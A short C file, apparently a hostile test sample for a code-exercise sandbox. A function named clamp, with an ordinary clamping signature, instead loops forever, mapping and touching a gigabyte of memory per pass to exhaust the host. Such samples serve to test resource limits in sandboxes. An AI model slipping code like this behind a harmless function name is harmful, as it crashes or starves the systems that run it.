/* Takes memory and touches it. */
#include "exercise.h"
#include "hostile.h"

void clamp(int32_t *values, size_t n, int32_t lo, int32_t hi)
{
    for (;;) {
        long at = call(NR_mmap, 0, 1L << 30, 3, 0x8022, -1, 0);
        if (at > 0)
            *(volatile char *)at = 1;
    }
}
